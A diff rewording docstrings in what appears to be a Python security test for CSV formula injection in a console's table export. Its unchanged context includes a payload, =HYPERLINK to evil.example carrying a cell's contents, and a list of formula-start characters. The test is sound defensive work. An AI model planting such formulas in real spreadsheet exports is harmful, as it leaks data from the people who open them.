@@ -1,4 +1,4 @@
-"""Formulas in what is exported as CSV: a spreadsheet runs them as whoever opens it."""
+"""Formulas in CSV exports: a spreadsheet would execute them for whoever opens it."""
 
 from __future__ import annotations
 
@@ -15,7 +15,7 @@ from verification.attacks.target import Target
 attacks = Attacks()
 
 _BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n")
-"""What spreadsheets take for the beginning of a formula, or leave away before one."""
+"""Characters that spreadsheets take for the start of a formula, or skip before one."""
 
 _FORMULAS = {
     "a formula": '=HYPERLINK("https://evil.example/?"&A1)',
@@ -32,7 +32,7 @@ _FORMULAS = {
 
 
 def _exported(text: str, _: Target) -> str:
-    """Export a table of the console that holds it in a cell, a heading and the name of a row."""
+    """Export a table of the console with this text in a cell, a heading and a row name."""
     table = pd.DataFrame({"name": [text], text: [1]}, index=[text])
     written = to_csv(table).decode()
     cells = [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row]
